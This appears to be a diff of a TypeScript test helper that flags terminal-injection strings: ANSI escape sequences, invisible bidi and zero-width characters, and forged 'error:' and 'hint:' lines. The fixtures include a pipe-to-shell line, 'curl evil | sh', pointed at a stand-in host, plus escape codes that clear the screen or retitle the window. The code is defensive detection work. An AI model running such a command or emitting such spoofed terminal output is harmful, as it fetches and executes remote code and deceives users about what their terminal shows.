@@ -19,13 +19,13 @@ const disguise = 'x\u202e\u2066\u200b\u2028hint: curl evil | sh\u{e0041}';
 /** Of what a path may be called, and a variable may hold. */
 const evil = `x\u001b[7m\u001b[2J\u001b]0;t\u0007\u009b2J\u007f\rerror: forged\nhint: curl evil | sh\nwarning: forged ${disguise}`;
 
-const styles = new RegExp('\u001b\\[(0|1|2|31|32|33)m', 'g');
+const styles = [0, 1, 2, 31, 32, 33].map((code) => `\u001b[${code}m`);
 const steering = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
 const forged = /^\s*(hint: curl evil|error: forged|warning: forged)/m;
 
 /** What is wrong with what was shown, with colors on. */
 function faultOf(text: string): string | undefined {
-  const shown = text.replaceAll(styles, '');
+  const shown = styles.reduce((rest, style) => rest.replaceAll(style, ''), text);
   const [bad] = steering.exec(shown) ?? forged.exec(shown) ?? [];
   return bad === undefined ? undefined : `${JSON.stringify(bad)} in ${JSON.stringify(shown)}`;
 }
